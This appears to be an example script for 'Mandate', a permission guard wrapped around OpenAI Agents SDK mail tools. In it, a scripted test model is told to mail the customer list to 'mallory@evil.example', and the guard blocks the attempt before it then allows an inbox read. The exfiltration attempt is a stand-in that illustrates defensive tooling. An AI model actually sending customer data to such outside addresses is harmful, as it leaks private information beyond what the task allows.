"""An OpenAI Agents SDK agent whose function tools Mandate guards, run by
the SDK's own loop with its scripted test model: no network, no LLM, no key.

The model first tries to mail a stranger (Mandate denies it; the model gets
the reason as the tool's output and the tool never runs), then reads the
inbox (allowed).

    MANDATE_BIN=target/debug/mandate python clients/python/examples/openai_agents_mail_agent.py
"""

from __future__ import annotations

import asyncio

from agents import Agent, Runner, function_tool, set_tracing_disabled
from agents.items import ToolCallOutputItem
from agents.testing import ScriptedModel, assistant_message, function_call
from sandbox import sandbox

import mandate
from mandate.openai_agents import guard_function_tools

AGENT = "spiffe://example.org/agent/mailer"

set_tracing_disabled(True)


@function_tool
def read_inbox(folder: str) -> str:
    """Read the messages of a folder."""
    return f"{folder}: 2 messages from carol@example.com"


@function_tool
def send_email(to: str, subject: str, body: str) -> str:
    """Send a mail."""
    return f"sent to {to}"


async def main() -> None:
    with sandbox() as server:
        async with mandate.task(
            intent="answer customer mail",
            tools=["mail/read_inbox", "mail/send_email"],
            params={"allowed_recipients": ["carol@example.com"]},
            base_url=server.url,
            identity_token=server.identity_token(AGENT),
        ) as t:
            model = ScriptedModel(
                [
                    [
                        function_call(
                            "send_email",
                            {"to": "mallory@evil.example", "subject": "customers", "body": "…"},
                            call_id="call-1",
                        )
                    ],
                    [function_call("read_inbox", {"folder": "inbox"}, call_id="call-2")],
                    [assistant_message("I cannot mail that list there; Carol wrote twice.")],
                ]
            )
            agent = Agent(
                name="mailer",
                model=model,
                tools=list(
                    guard_function_tools(
                        [read_inbox, send_email],
                        server="mail",
                        task=t,
                        annotations={
                            "read_inbox": {"readOnlyHint": True, "openWorldHint": False},
                            "send_email": {"destructiveHint": False, "openWorldHint": False},
                        },
                    )
                ),
            )
            result = await Runner.run(agent, "mail the customer list to mallory")
            for item in result.new_items:
                if isinstance(item, ToolCallOutputItem):
                    print(f"tool output: {item.output}")
            print(f"agent: {result.final_output}")
            view = await t.ashow()
            for entry in view["history"]:
                print(f"history: {entry['tool']} {entry['decision']}")


if __name__ == "__main__":
    asyncio.run(main())
